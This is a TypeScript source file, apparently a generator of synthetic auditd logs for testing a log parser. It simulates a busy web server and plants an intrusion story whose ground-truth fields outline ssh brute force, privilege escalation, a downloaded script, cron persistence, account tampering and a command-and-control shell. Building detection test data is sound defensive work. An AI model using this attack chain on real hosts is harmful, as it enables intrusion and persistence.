/**
 * A deterministic generator of a realistic raw auditd log for one host (a RHEL 9-like web server
 * with SELinux contexts and pam_tty_audit), with an intrusion story amid background activity, and
 * the ground truth to check a parser against. Pure: no I/O, no clock, no Math.random.
 *
 * How it works: activities (cron, systemd timers, a monitoring agent, an admin's ssh sessions,
 * internet ssh noise, the story) are generator functions that emit whole events and yield the
 * milliseconds to wait; a scheduler runs them in time order, so their events interleave the way
 * a busy host's do while timestamps and serials only go up.
 */

// ---------------------------------------------------------------------------------------------
// Options and ground truth
// ---------------------------------------------------------------------------------------------

/** Bumped whenever the same options start giving different output (caches of generated logs key on it). */
export const GENERATOR_VERSION = 1;

export interface GeneratorOptions {
  /** PRNG seed (default 1). */
  seed?: number;
  /** Stop once this many bytes are written (and the story is complete). */
  targetBytes: number;
  /** Epoch seconds of the first record (default 2025-01-15T10:00:00Z). */
  startSec?: number;
  /** `node=NAME ` prefix on every line, as multi-host setups write; default none. */
  node?: string | null;
  /** Include the intrusion story (default true). */
  story?: boolean;
  /**
   * End every kernel (syscall) event with an `EOE` record (default true). auditd itself does not
   * write EOE to disk (it is for the realtime dispatcher, as audisp/laurel see it); false gives
   * the exact on-disk shape, where only the parser's time window closes events.
   */
  eoe?: boolean;
  /**
   * `raw` (default) or `enriched`: auditd 3.x's log_format=ENRICHED (RHEL 8+'s default), where
   * records end with a 0x1d byte and interpreted names (`UID="root"`, `SYSCALL=execve`, …).
   */
  format?: "raw" | "enriched";
}

export interface StoryExec {
  serial: number;
  sec: number;
  ms: number;
  pid: number;
  ppid: number;
  uid: number;
  euid: number;
  auid: number;
  ses: number;
  tty: string;
  comm: string;
  exe: string;
  cwd: string;
  argv: string[];
}

export interface StoryTty {
  serial: number;
  pid: number;
  uid: number;
  /** The `data=` field as written (upper-case hex). */
  dataHex: string;
  /** The keystrokes, one char per byte. */
  typed: string;
  /** The command line they edit to. */
  line: string;
}

export interface StoryTruth {
  attackerIp: string;
  bruteForce: {
    account: string;
    /** Failed password attempts: one failed USER_AUTH and one failed USER_LOGIN each. */
    attempts: number;
    connections: number;
    sshdPids: number[];
    firstSec: number;
    lastSec: number;
  };
  victim: { user: string; uid: number; home: string };
  session: {
    ses: number;
    auid: number;
    loginSerial: number;
    loginSec: number;
    sshdPid: number;
    shellPid: number;
    terminal: string;
    endSec: number;
  };
  sudo: {
    /** The TTY record with the typo corrected by backspaces. */
    tty: StoryTty;
    /** `cmd=` of sudo's USER_CMD (hex-encoded in the log since it has a space). */
    cmd: string;
    userCmdSerial: number;
    sudoPid: number;
    suPid: number;
    rootShellPid: number;
  };
  /** Every TTY record of the story session, in order. */
  tty: StoryTty[];
  /** Every exec the story caused (sshd re-execs included), in order. */
  execs: StoryExec[];
  download: { url: string; file: string; connectSerial: number; curlPid: number };
  chmod: { file: string; serial: number; mode: string };
  script: { path: string; pid: number; serial: number };
  cron: { file: string; serial: number; pid: number; line: string };
  passwd: { user: string; uid: number; addUserSerial: number; openSerial: number; renameSerial: number };
  c2: { ip: string; port: number; address: string; connectSerial: number; pid: number; shellPid: number };
  firstSerial: number;
  lastSerial: number;
  startSec: number;
  endSec: number;
}

export interface GroundTruth {
  seed: number;
  startSec: number;
  node: string | null;
  host: string;
  eoe: boolean;
  format: "raw" | "enriched";
  /** Counters over the whole log (background and story). */
  events: number;
  records: number;
  lines: number;
  bytes: number;
  /** LOGIN records (each starts a session: a new `ses`). */
  sessions: number;
  /** execve events. */
  execs: number;
  /** USER_LOGIN res=failed. */
  failedLogins: number;
  /** USER_AUTH res=failed. */
  failedAuths: number;
  /** TTY and USER_TTY records. */
  ttyRecords: number;
  recordTypes: Record<string, number>;
  firstSerial: number;
  lastSerial: number;
  lastSec: number;
  /** Times the pid counter wrapped at pid_max (pids are reused after it). */
  pidWraps: number;
  /** Filled as the story runs; null when the story is off. */
  story: StoryTruth | null;
  /** True once the story has ended (always true without a story). */
  storyComplete: boolean;
}

// ---------------------------------------------------------------------------------------------
// Randomness
// ---------------------------------------------------------------------------------------------

class Rng {
  private s: number;
  constructor(seed: number) {
    this.s = seed >>> 0;
  }
  /** mulberry32: [0, 1). */
  next(): number {
    this.s = (this.s + 0x6d2b79f5) | 0;
    let t = this.s;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  }
  /** Integer in [lo, hi]. */
  int(lo: number, hi: number): number {
    return lo + Math.floor(this.next() * (hi - lo + 1));
  }
  chance(p: number): boolean {
    return this.next() < p;
  }
  pick<T>(items: readonly T[]): T {
    const item = items[Math.floor(this.next() * items.length)];
    if (item === undefined) throw new Error("pick from an empty list");
    return item;
  }
  /** Exponential wait with this mean. */
  exp(mean: number): number {
    return Math.round(-Math.log(1 - this.next()) * mean);
  }
  /** A user-space pointer as SYSCALL a0..a3 show them. */
  pointer(): string {
    const high = this.chance(0.5) ? 0x55 + this.int(0, 10) : 0x7f00 + this.int(0, 0xff);
    const low = this.int(0, 0xffffffff).toString(16).padStart(8, "0");
    return high < 0x100
      ? `${high.toString(16)}${this.int(0, 0xff).toString(16).padStart(2, "0")}${low}`
      : `${high.toString(16)}${low}`;
  }
}

// ---------------------------------------------------------------------------------------------
// Encoding, as the kernel and libaudit do it
// ---------------------------------------------------------------------------------------------

const encodedCache = new Map<string, string>();

/** `"value"`, or upper-case hex of its UTF-8 when it has a quote, a space, a control or non-ASCII byte. */
export function auditString(value: string): string {
  const cached = encodedCache.get(value);
  if (cached !== undefined) return cached;
  let plain = value.length > 0;
  for (let i = 0; i < value.length; i++) {
    const c = value.charCodeAt(i);
    if (c === 0x22 || c < 0x21 || c > 0x7e) {
      plain = false;
      break;
    }
  }
  const out = plain ? `"${value}"` : hex(value);
  // Table strings repeat; one-off values must not grow the cache without bound.
  if (encodedCache.size > 20_000) encodedCache.clear();
  encodedCache.set(value, out);
  return out;
}

function hex(value: string): string {
  return Buffer.from(value, "utf8").toString("hex").toUpperCase();
}

/** Bytes as a latin1 string (one char per byte), e.g. keystrokes, to upper-case hex. */
function latin1Hex(value: string): string {
  return Buffer.from(value, "latin1").toString("hex").toUpperCase();
}

/** The kernel keeps the first 128 bytes of the command line, NULs between args, trailing NULs cut. */
function proctitle(argv: readonly string[]): string {
  let title = Buffer.from(argv.join("\0"), "utf8");
  if (title.length > 128) title = title.subarray(0, 128);
  let end = title.length;
  while (end > 0 && title[end - 1] === 0) end--;
  return auditString(title.subarray(0, end).toString("utf8"));
}

function ipv4Sockaddr(ip: string, port: number): string {
  const octets = ip.split(".").map((n) => Number(n).toString(16).padStart(2, "0"));
  return `0200${port.toString(16).padStart(4, "0")}${octets.join("")}0000000000000000`.toUpperCase();
}

/** FNV-1a: stable inode numbers per path. */
function hash32(text: string): number {
  let h = 0x811c9dc5;
  for (let i = 0; i < text.length; i++) h = Math.imul(h ^ text.charCodeAt(i), 0x01000193);
  return h >>> 0;
}

// ---------------------------------------------------------------------------------------------
// The host: users, binaries, SELinux contexts
// ---------------------------------------------------------------------------------------------

const UNSET = 4294967295;
const PID_MAX = 4194304;
const RESERVED_PIDS = 300;
const HOST = "web01";
const HOST_ADDR = "10.0.0.20";
const LD_SO = "/lib64/ld-linux-x86-64.so.2";
const SSHD_FP = "SHA256:Yk2qvQbN7sX0cJmR4d1uV9tFhP3wL6eZaG8oKiB5nCs";

const CTX = {
  user: "unconfined_u:unconfined_r:unconfined_t:s0-s0:c0.c1023",
  sshd: "system_u:system_r:sshd_t:s0-s0:c0.c1023",
  crond: "system_u:system_r:crond_t:s0-s0:c0.c1023",
  cronJob: "system_u:system_r:unconfined_t:s0-s0:c0.c1023",
  init: "system_u:system_r:init_t:s0",
  service: "system_u:system_r:unconfined_service_t:s0",
  zabbix: "system_u:system_r:zabbix_agent_t:s0",
  phpFpm: "system_u:system_r:httpd_t:s0",
  auditd: "system_u:system_r:auditd_t:s0",
} as const;

interface User {
  name: string;
  uid: number;
  gid: number;
  home: string;
}

const USERS: Record<string, User> = {
  root: { name: "root", uid: 0, gid: 0, home: "/root" },
  bob: { name: "bob", uid: 1000, gid: 1000, home: "/home/bob" },
  alice: { name: "alice", uid: 1001, gid: 1001, home: "/home/alice" },
  deploy: { name: "deploy", uid: 1002, gid: 1002, home: "/home/deploy" },
  zabbix: { name: "zabbix", uid: 995, gid: 992, home: "/var/lib/zabbix" },
  apache: { name: "apache", uid: 48, gid: 48, home: "/usr/share/httpd" },
};

const GROUP_NAMES: Record<number, string> = {
  0: "root",
  48: "apache",
  992: "zabbix",
  1000: "bob",
  1001: "alice",
  1002: "deploy",
};
const USER_NAMES: Record<number, string> = Object.fromEntries(
  Object.values(USERS).map((u) => [u.uid, u.name]),
);
const SYSCALL_NAMES: Record<number, string> = {
  1: "write",
  42: "connect",
  44: "sendto",
  59: "execve",
  82: "rename",
  257: "openat",
  268: "fchmodat",
};

/** An id as ENRICHED lines name it. */
function idName(names: Record<number, string>, id: number): string {
  return id === UNSET ? "unset" : (names[id] ?? `unknown(${id})`);
}

/** ENRICHED suffix: the 0x1d separator, then `NAME="value"` pairs (values starting with `{` bare). */
function enrichment(pairs: readonly (readonly [string, string])[]): string {
  return `\x1d${pairs.map(([k, v]) => (v.startsWith("{") ? `${k}=${v}` : `${k}="${v}"`)).join(" ")}`;
}

function user(name: string): User {
  const u = USERS[name];
  if (!u) throw new Error(`unknown user ${name}`);
  return u;
}

interface Binary {
  /** Path execve() is given (what a shell finds in PATH). */
  path: string;
  /** The real file (exe=), when path is a symlink. */
  exe?: string;
  /** SELinux type of the file. */
  type?: string;
  mode?: string;
  /** `#!` interpreter of a script. */
  interpreter?: string;
}

// Commands by the name typed or run. Unknown names resolve to /usr/bin/NAME.
const BINARIES: Record<string, Binary> = {
  bash: { path: "/usr/bin/bash", type: "shell_exec_t" },
  "-bash": { path: "/usr/bin/bash", type: "shell_exec_t" },
  sh: { path: "/usr/bin/sh", exe: "/usr/bin/bash", type: "shell_exec_t" },
  sudo: { path: "/usr/bin/sudo", type: "sudo_exec_t", mode: "0104111" },
  su: { path: "/usr/bin/su", type: "su_exec_t", mode: "0104755" },
  sshd: { path: "/usr/sbin/sshd", type: "sshd_exec_t" },
  auditctl: { path: "/usr/sbin/auditctl", type: "auditctl_exec_t" },
  useradd: { path: "/usr/sbin/useradd", type: "useradd_exec_t" },
  systemctl: { path: "/usr/bin/systemctl", type: "systemd_systemctl_exec_t" },
  dnf: { path: "/usr/bin/dnf", interpreter: "/usr/bin/python3", type: "rpm_exec_t" },
  python3: { path: "/usr/bin/python3", exe: "/usr/bin/python3.9" },
  ss: { path: "/usr/sbin/ss" },
  ip: { path: "/usr/sbin/ip", type: "ifconfig_exec_t" },
  nginx: { path: "/usr/sbin/nginx", type: "httpd_exec_t" },
  sadc: { path: "/usr/lib64/sa/sadc" },
  sa1: { path: "/usr/lib64/sa/sa1", interpreter: "/bin/sh" },
  sa2: { path: "/usr/lib64/sa/sa2", interpreter: "/bin/sh" },
  fstrim: { path: "/usr/sbin/fstrim", type: "fsadm_exec_t" },
  mysqladmin: { path: "/usr/bin/mysqladmin" },
  "run-parts": { path: "/usr/bin/run-parts", interpreter: "/bin/bash" },
  "0anacron": { path: "/etc/cron.hourly/0anacron", interpreter: "/bin/sh" },
  anacron: { path: "/usr/sbin/anacron", type: "crond_exec_t" },
  logrotate: { path: "/usr/sbin/logrotate", type: "logrotate_exec_t" },
  "healthcheck.sh": { path: "/usr/local/bin/healthcheck.sh", interpreter: "/bin/bash" },
  "backup-db.sh": { path: "/usr/local/sbin/backup-db.sh", interpreter: "/bin/bash" },
  "check_raid.sh": { path: "/usr/local/sbin/check_raid.sh", interpreter: "/bin/bash" },
  certbot: { path: "/usr/bin/certbot", interpreter: "/usr/bin/python3" },
  iptables: { path: "/usr/sbin/iptables", exe: "/usr/sbin/xtables-nft-multi", type: "iptables_exec_t" },
  "check_cert.sh": { path: "/usr/lib/zabbix/externalscripts/check_cert.sh", interpreter: "/bin/bash" },
  php: { path: "/usr/bin/php", type: "httpd_exec_t" },
  mysqldump: { path: "/usr/bin/mysqldump" },
  "a.sh": { path: "/tmp/a.sh", interpreter: "/bin/bash", type: "user_tmp_t" },
  convert: { path: "/usr/bin/convert", exe: "/usr/bin/magick" },
  sendmail: { path: "/usr/sbin/sendmail", exe: "/usr/sbin/sendmail.postfix", type: "sendmail_exec_t" },
};

function binary(name: string): Binary {
  const entry = BINARIES[name] ?? BINARIES[basename(name)];
  const path = name.startsWith("/") ? name : (entry?.path ?? `/usr/bin/${name}`);
  // /bin and /sbin are symlinks into /usr: exe= shows the real file.
  const real = /^\/s?bin\//.test(path) ? `/usr${path}` : path;
  return { ...entry, path, exe: entry?.exe ?? real };
}

function inodeOf(path: string): number {
  return 1_000_000 + (hash32(path) % 33_000_000);
}

// ---------------------------------------------------------------------------------------------
// Processes
// ---------------------------------------------------------------------------------------------

interface Proc {
  pid: number;
  ppid: number;
  uid: number;
  gid: number;
  euid: number;
  egid: number;
  auid: number;
  ses: number;
  tty: string;
  comm: string;
  exe: string;
  cwd: string;
  subj: string;
  argv: string[];
  /** Part of the story: its execs (and its children's) go into the truth. */
  story?: boolean;
}

const UNSET_PROC_IDS = { auid: UNSET, ses: UNSET } as const;

function daemon(
  pid: number,
  ppid: number,
  argv: string[],
  exe: string,
  subj: string,
  owner = user("root"),
): Proc {
  return {
    pid,
    ppid,
    uid: owner.uid,
    gid: owner.gid,
    euid: owner.uid,
    egid: owner.gid,
    ...UNSET_PROC_IDS,
    tty: "(none)",
    comm: basename(exe),
    exe,
    cwd: "/",
    subj,
    argv,
  };
}

function basename(path: string): string {
  return path.slice(path.lastIndexOf("/") + 1);
}

/** Splits a typed command line into pipeline stages of argv (double quotes group; no expansion). */
export function splitCommandLine(line: string): string[][] {
  const stages: string[][] = [[]];
  let word = "";
  let inWord = false;
  let quoted = false;
  const endWord = () => {
    if (inWord) stages[stages.length - 1]?.push(word);
    word = "";
    inWord = false;
  };
  for (const ch of line) {
    if (ch === '"') {
      quoted = !quoted;
      inWord = true;
    } else if (!quoted && ch === " ") {
      endWord();
    } else if (!quoted && ch === "|") {
      endWord();
      stages.push([]);
    } else {
      word += ch;
      inWord = true;
    }
  }
  endWord();
  return stages.filter((s) => s.length > 0);
}

// Words the shell runs itself: a line starting with one execs nothing.
const BUILTINS = new Set(["cd", "exit", "history", "export", "logout", "alias", "source", "pwd"]);

// ---------------------------------------------------------------------------------------------
// The writer: stamps, serials, lines, counters
// ---------------------------------------------------------------------------------------------

type Rec = readonly [type: string, body: string];

class Writer {
  /** Milliseconds since the epoch of the current simulated time. */
  now: number;
  private serial: number;
  private readonly prefix: string;
  lines: string[] = [];
  pendingBytes = 0;

  constructor(
    readonly truth: GroundTruth,
    startMs: number,
    firstSerial: number,
    node: string | null,
    private readonly eoe: boolean,
  ) {
    this.now = startMs;
    this.serial = firstSerial;
    this.prefix = node ? `node=${node} ` : "";
    truth.firstSerial = firstSerial;
  }

  get sec(): number {
    return Math.floor(this.now / 1000);
  }

  get ms(): number {
    return this.now % 1000;
  }

  /** Writes one event; kernel events get their EOE. Returns its serial. */
  event(records: readonly Rec[], kernel: boolean): number {
    const serial = this.serial++;
    const stamp = `${this.sec}.${String(this.ms).padStart(3, "0")}:${serial}`;
    const head = `${this.prefix}type=`;
    const mid = ` msg=audit(${stamp}): `;
    const truth = this.truth;
    for (const [type, body] of records) this.line(`${head}${type}${mid}${body}\n`, type);
    if (kernel && this.eoe) this.line(`${head}EOE${mid}\n`, "EOE");
    truth.events++;
    truth.lastSerial = serial;
    truth.lastSec = this.sec;
    return serial;
  }

  private line(text: string, type: string): void {
    this.lines.push(text);
    // Every value is ASCII (non-ASCII is hex-encoded), so characters are bytes.
    this.pendingBytes += text.length;
    const truth = this.truth;
    truth.records++;
    truth.lines++;
    truth.bytes += text.length;
    truth.recordTypes[type] = (truth.recordTypes[type] ?? 0) + 1;
  }

  /** Takes the written lines as chunks of at most maxBytes, whole lines each. */
  *drain(maxBytes: number): Generator<string> {
    let parts: string[] = [];
    let size = 0;
    for (const line of this.lines) {
      if (size + line.length > maxBytes && parts.length > 0) {
        yield parts.join("");
        parts = [];
        size = 0;
      }
      parts.push(line);
      size += line.length;
    }
    if (parts.length > 0) yield parts.join("");
    this.lines = [];
    this.pendingBytes = 0;
  }
}

// ---------------------------------------------------------------------------------------------
// Record bodies
// ---------------------------------------------------------------------------------------------

interface SyscallArgs {
  nr: number;
  success?: boolean;
  exit: number;
  a: readonly [string, string, string, string];
  items: number;
  key: string | null;
}

function syscallBody(p: Proc, s: SyscallArgs, enriched: boolean): string {
  const tail = enriched
    ? `\x1dARCH=x86_64 SYSCALL=${SYSCALL_NAMES[s.nr] ?? s.nr}${enrichment([
        ["AUID", idName(USER_NAMES, p.auid)],
        ["UID", idName(USER_NAMES, p.uid)],
        ["GID", idName(GROUP_NAMES, p.gid)],
        ["EUID", idName(USER_NAMES, p.euid)],
        ["SUID", idName(USER_NAMES, p.euid)],
        ["FSUID", idName(USER_NAMES, p.euid)],
        ["EGID", idName(GROUP_NAMES, p.egid)],
        ["SGID", idName(GROUP_NAMES, p.egid)],
        ["FSGID", idName(GROUP_NAMES, p.egid)],
      ]).replace("\x1d", " ")}`
    : "";
  return (
    `arch=c000003e syscall=${s.nr} success=${s.success === false ? "no" : "yes"} exit=${s.exit} ` +
    `a0=${s.a[0]} a1=${s.a[1]} a2=${s.a[2]} a3=${s.a[3]} items=${s.items} ppid=${p.ppid} pid=${p.pid} ` +
    `auid=${p.auid} uid=${p.uid} gid=${p.gid} euid=${p.euid} suid=${p.euid} fsuid=${p.euid} ` +
    `egid=${p.egid} sgid=${p.egid} fsgid=${p.egid} tty=${p.tty} ses=${p.ses} comm=${auditString(p.comm)} ` +
    `exe=${auditString(p.exe)} subj=${p.subj} key=${s.key === null ? "(null)" : auditString(s.key)}${tail}`
  );
}

interface PathItem {
  name: string;
  nametype: "NORMAL" | "PARENT" | "CREATE" | "DELETE";
  mode: string;
  inode?: number;
  type?: string;
  ouid?: number;
  ogid?: number;
}

function pathBody(item: number, p: PathItem, enriched: boolean): string {
  const tail = enriched
    ? enrichment([
        ["OUID", idName(USER_NAMES, p.ouid ?? 0)],
        ["OGID", idName(GROUP_NAMES, p.ogid ?? 0)],
      ])
    : "";
  const type = p.type ?? (p.mode.startsWith("04") ? "etc_t" : "bin_t");
  return (
    `item=${item} name=${auditString(p.name)} inode=${p.inode ?? inodeOf(p.name)} dev=fd:00 mode=${p.mode} ` +
    `ouid=${p.ouid ?? 0} ogid=${p.ogid ?? 0} rdev=00:00 obj=system_u:object_r:${type}:s0 ` +
    `nametype=${p.nametype} cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0${tail}`
  );
}

interface UserMsg {
  op?: string;
  grantors?: string;
  acct?: string;
  id?: number;
  exe: string;
  hostname?: string;
  addr?: string;
  terminal?: string;
  success: boolean;
  /** Text placed before exe= (USER_CMD's cwd/cmd, SERVICE_*'s unit, CRYPTO's fields). */
  lead?: string;
  /** No hostname=/addr= (sudo's USER_CMD has none). */
  noPeer?: boolean;
}

function userBody(
  p: Proc,
  m: UserMsg,
  enriched: boolean,
  extra: readonly (readonly [string, string])[] = [],
): string {
  const parts: string[] = [];
  if (m.lead) parts.push(m.lead);
  if (m.op) parts.push(`op=${m.op}`);
  if (m.grantors) parts.push(`grantors=${m.grantors}`);
  if (m.acct !== undefined) parts.push(`acct=${auditString(m.acct)}`);
  if (m.id !== undefined) parts.push(`id=${m.id}`);
  parts.push(`exe=${auditString(m.exe)}`);
  if (!m.noPeer) parts.push(`hostname=${m.hostname ?? "?"}`, `addr=${m.addr ?? "?"}`);
  parts.push(`terminal=${m.terminal ?? "?"}`, `res=${m.success ? "success" : "failed"}`);
  const tail = enriched
    ? enrichment([
        ["UID", idName(USER_NAMES, p.uid)],
        ["AUID", idName(USER_NAMES, p.auid)],
        ...(m.id === undefined ? [] : [["ID", idName(USER_NAMES, m.id)] as const]),
        ...extra,
      ])
    : "";
  return `pid=${p.pid} uid=${p.uid} auid=${p.auid} ses=${p.ses} subj=${p.subj} msg='${parts.join(" ")}'${tail}`;
}

// PAM stacks (the grantors= lists) of the services on this host.
const PAM = {
  sshdAuth: "pam_unix",
  sshdAcct: "pam_unix,pam_localuser",
  sshdCred: "pam_env,pam_unix",
  sshdSession:
    "pam_selinux,pam_loginuid,pam_selinux,pam_namespace,pam_keyinit,pam_keyinit,pam_limits,pam_systemd,pam_unix,pam_umask,pam_lastlog,pam_tty_audit",
  sudoAuth: "pam_unix",
  sudoAcct: "pam_unix,pam_localuser",
  sudoCred: "pam_env,pam_unix",
  sudoSession: "pam_keyinit,pam_limits,pam_keyinit,pam_limits,pam_systemd,pam_unix",
  suAuth: "pam_rootok",
  suAcct: "pam_succeed_if,pam_succeed_if,pam_unix,pam_localuser",
  suCred: "pam_rootok",
  suSession: "pam_keyinit,pam_limits,pam_systemd,pam_unix,pam_xauth",
  cronAcct: "pam_access,pam_unix,pam_localuser",
  cronCred: "pam_env,pam_unix",
  cronSession: "pam_loginuid,pam_keyinit,pam_limits,pam_systemd,pam_unix",
} as const;

// ---------------------------------------------------------------------------------------------
// Background tables
// ---------------------------------------------------------------------------------------------

interface CronJob {
  /** Runs when minute % every === offset. */
  every: number;
  offset: number;
  user: string;
  command: string;
  /** What the command runs, as pipeline stages after `/bin/sh -c`. */
  children: string[][];
  /** Commands the first child (a script) runs in turn. */
  grandchildren?: string[][];
}

const CRON_JOBS: readonly CronJob[] = [
  {
    every: 1,
    offset: 0,
    user: "root",
    command: "/usr/local/bin/healthcheck.sh >/dev/null 2>&1",
    children: [["/usr/local/bin/healthcheck.sh"]],
    grandchildren: [
      [
        "curl",
        "-fsS",
        "-m",
        "5",
        "-H",
        "Host: web01.example.com",
        "-o",
        "/dev/null",
        "-w",
        "%{http_code}",
        "http://127.0.0.1/healthz",
      ],
      ["systemctl", "is-active", "--quiet", "php-fpm"],
    ],
  },
  {
    every: 5,
    offset: 2,
    user: "deploy",
    command:
      "cd /var/www/app && /usr/bin/php -d memory_limit=512M artisan schedule:run --no-interaction >> /dev/null 2>&1",
    children: [["/usr/bin/php", "-d", "memory_limit=512M", "artisan", "schedule:run", "--no-interaction"]],
  },
  {
    every: 10,
    offset: 7,
    user: "root",
    command: "/usr/local/sbin/backup-db.sh --quiet",
    children: [["/usr/local/sbin/backup-db.sh", "--quiet"]],
    grandchildren: [
      ["mysqldump", "--single-transaction", "--routines", "appdb"],
      ["gzip", "-c"],
      ["find", "/var/backups/db", "-name", "*.sql.gz", "-mtime", "+7", "-delete"],
    ],
  },
  {
    every: 60,
    offset: 1,
    user: "root",
    command: "run-parts /etc/cron.hourly",
    children: [["run-parts", "/etc/cron.hourly"]],
    grandchildren: [["/etc/cron.hourly/0anacron"], ["anacron", "-s"]],
  },
];

interface Check {
  /** The agent's `sh -c` command line. */
  command: string;
  children: string[][];
  /** Run through `sudo -n` (NOPASSWD): the one child is sudo's command, run as root. */
  sudo?: boolean;
}

/** Gap between two runs of the monitoring agent's checks. */
const AGENT_GAP_MS: readonly [number, number] = [4_000, 16_000];
/** Mean gap between two bots trying passwords over ssh. */
const BOT_MEAN_GAP_MS = 70_000;
/** Mean gap between two shell-outs of the web application. */
const WEB_MEAN_GAP_MS = 20_000;

// The monitoring agent's user parameters, run every few seconds through `sh -c`.
const AGENT_CHECKS: readonly Check[] = [
  {
    command: "systemctl show nginx.service --property=ActiveState,SubState,NRestarts --value | paste -sd,",
    children: [
      ["systemctl", "show", "nginx.service", "--property=ActiveState,SubState,NRestarts", "--value"],
      ["paste", "-sd,"],
    ],
  },
  {
    command: "systemctl is-active php-fpm.service mariadb.service redis.service",
    children: [["systemctl", "is-active", "php-fpm.service", "mariadb.service", "redis.service"]],
  },
  {
    command:
      'df -P -x tmpfs -x devtmpfs -x overlay | awk \'NR>1 {gsub("%","",$5); if ($5>m) m=$5} END {print m+0}\'',
    children: [
      ["df", "-P", "-x", "tmpfs", "-x", "devtmpfs", "-x", "overlay"],
      ["awk", 'NR>1 {gsub("%","",$5); if ($5>m) m=$5} END {print m+0}'],
    ],
  },
  {
    command: "ss -Htan state established '( sport = :443 or sport = :80 )' | wc -l",
    children: [
      ["ss", "-Htan", "state", "established", "( sport = :443 or sport = :80 )"],
      ["wc", "-l"],
    ],
  },
  {
    command:
      "/usr/lib/zabbix/externalscripts/check_cert.sh --host web01.example.com --port 443 --warn-days 21",
    children: [
      [
        "/usr/lib/zabbix/externalscripts/check_cert.sh",
        "--host",
        "web01.example.com",
        "--port",
        "443",
        "--warn-days",
        "21",
      ],
    ],
  },
  {
    command: "ps -C php-fpm -o pid=,rss=,etimes=,args= --no-headers | awk '{n++; r+=$2} END {print n\":\"r}'",
    children: [
      ["ps", "-C", "php-fpm", "-o", "pid=,rss=,etimes=,args=", "--no-headers"],
      ["awk", '{n++; r+=$2} END {print n":"r}'],
    ],
  },
  {
    command: "sudo -n /usr/local/sbin/check_raid.sh --nagios --devices /dev/md0,/dev/md1",
    children: [["/usr/local/sbin/check_raid.sh", "--nagios", "--devices", "/dev/md0,/dev/md1"]],
    sudo: true,
  },
  {
    command: "sudo -n /usr/sbin/nginx -t -q -c /etc/nginx/nginx.conf",
    children: [["/usr/sbin/nginx", "-t", "-q", "-c", "/etc/nginx/nginx.conf"]],
    sudo: true,
  },
  {
    command: "sudo -n /usr/bin/certbot certificates --cert-name web01.example.com --quiet",
    children: [["/usr/bin/certbot", "certificates", "--cert-name", "web01.example.com", "--quiet"]],
    sudo: true,
  },
  {
    command: "sudo -n /usr/sbin/iptables -w 5 -nvxL INPUT --line-numbers",
    children: [["/usr/sbin/iptables", "-w", "5", "-nvxL", "INPUT", "--line-numbers"]],
    sudo: true,
  },
  {
    command:
      "mysqladmin --defaults-file=/etc/zabbix/.my.cnf --connect-timeout=5 extended-status -r -i 1 -c 1",
    children: [
      [
        "mysqladmin",
        "--defaults-file=/etc/zabbix/.my.cnf",
        "--connect-timeout=5",
        "extended-status",
        "-r",
        "-i",
        "1",
        "-c",
        "1",
      ],
    ],
  },
  {
    command: "tail -n 500 /var/log/nginx/error.log | grep -c -E 'upstream timed out|connect\\(\\) failed'",
    children: [
      ["tail", "-n", "500", "/var/log/nginx/error.log"],
      ["grep", "-c", "-E", "upstream timed out|connect\\(\\) failed"],
    ],
  },
  {
    command:
      "/usr/bin/python3 /usr/lib/zabbix/externalscripts/redis_stats.py --socket /run/redis/redis.sock --json",
    children: [
      [
        "/usr/bin/python3",
        "/usr/lib/zabbix/externalscripts/redis_stats.py",
        "--socket",
        "/run/redis/redis.sock",
        "--json",
      ],
    ],
  },
];

interface Timer {
  unit: string;
  /** Period in seconds, and first run after start. */
  period: number;
  first: number;
  runs: string[][];
}

const TIMERS: readonly Timer[] = [
  {
    unit: "sysstat-collect",
    period: 600,
    first: 95,
    runs: [
      ["/usr/lib64/sa/sa1", "1", "1"],
      ["sadc", "-F", "-L", "-S", "DISK", "1", "1", "-"],
    ],
  },
  {
    unit: "dnf-makecache",
    period: 3600 + 1234,
    first: 1500,
    runs: [["/usr/bin/dnf", "makecache", "--timer"]],
  },
  {
    unit: "logrotate",
    period: 86_400,
    first: 20_000,
    runs: [["/usr/sbin/logrotate", "/etc/logrotate.conf"]],
  },
  { unit: "systemd-tmpfiles-clean", period: 86_400, first: 40_000, runs: [["systemd-tmpfiles", "--clean"]] },
  { unit: "sysstat-summary", period: 86_400, first: 50_000, runs: [["/usr/lib64/sa/sa2", "-A"]] },
  {
    unit: "fstrim",
    period: 7 * 86_400,
    first: 70_000,
    runs: [
      [
        "/usr/sbin/fstrim",
        "--listed-in",
        "/etc/fstab:/proc/self/mountinfo",
        "--verbose",
        "--quiet-unsupported",
      ],
    ],
  },
];

// The admin's typed command lines.
const ADMIN_LINES: readonly string[] = [
  "uptime",
  "df -h",
  "free -m",
  "systemctl status nginx",
  'journalctl -u nginx --since "1 hour ago" --no-pager',
  "tail -n 100 /var/log/nginx/error.log",
  "ls -la /var/www/app",
  "ps aux | grep php-fpm",
  "ss -tlnp",
  "top -bn1 | head -20",
  "du -sh /var/log",
  "cat /etc/os-release",
  "last -n 20",
  "cd /var/www/app",
  "git -C /var/www/app log --oneline -5",
  "vim /etc/nginx/conf.d/app.conf",
  "grep -i error /var/log/php-fpm/www-error.log | tail -20",
  "ip -br a",
  "w",
];

const ADMIN_SUDO_LINES: readonly string[] = [
  "sudo systemctl restart nginx",
  "sudo systemctl reload php-fpm",
  "sudo dnf check-update",
  "sudo tail -n 50 /var/log/secure",
  "sudo nginx -t",
];

const ADMIN_ROOT_LINES: readonly string[] = [
  "cd /etc/nginx",
  "ls -l conf.d",
  "nginx -t",
  "systemctl reload nginx",
  "tail -n 20 /var/log/messages",
  "auditctl -l",
];

// Services whose restart an admin's sudo line causes (by the line's last word).
const SERVICE_OF_LINE: Record<string, { unit: string; stop: boolean }> = {
  "systemctl restart nginx": { unit: "nginx", stop: true },
  "systemctl reload php-fpm": { unit: "php-fpm", stop: false },
  "systemctl reload nginx": { unit: "nginx", stop: false },
};

// What a login shell runs from /etc/profile and ~/.bashrc.
const PROFILE_EXECS: readonly string[][] = [
  ["id", "-u"],
  ["hostname"],
  ["tty", "-s"],
  ["tput", "colors"],
  ["dircolors", "--sh", "/etc/DIR_COLORS.256color"],
  ["grep", "-qi", "^COLOR.*none", "/etc/DIR_COLORS.256color"],
];

const BOT_USERS: readonly string[] = [
  "root",
  "root",
  "root",
  "admin",
  "test",
  "oracle",
  "postgres",
  "ubuntu",
  "user",
  "ftpuser",
  "git",
  "deploy",
];

const AUDIT_RULE_KEYS: readonly string[] = [
  "exec",
